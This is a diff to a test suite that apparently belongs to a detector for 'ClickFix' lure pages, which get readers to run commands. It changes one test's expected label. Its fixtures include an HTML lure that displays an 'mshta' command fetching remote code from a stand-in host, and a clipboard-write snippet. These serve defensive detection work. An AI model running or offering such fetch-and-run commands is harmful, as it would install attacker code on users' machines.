@@ -205,8 +205,8 @@ suite('a page that makes the reader run a command', () => {
     has(html(`navigator.clipboard.writeText(atob("${btoa(command)}"))`), 'Html.ClickFix')
   })
 
-  test('shown as text only is suspicious', () => {
-    has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.CommandCopy')
+  test('shown as text only', () => {
+    has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.ClickFix')
   })
 
   test('but not a script or note with some tags', () => {
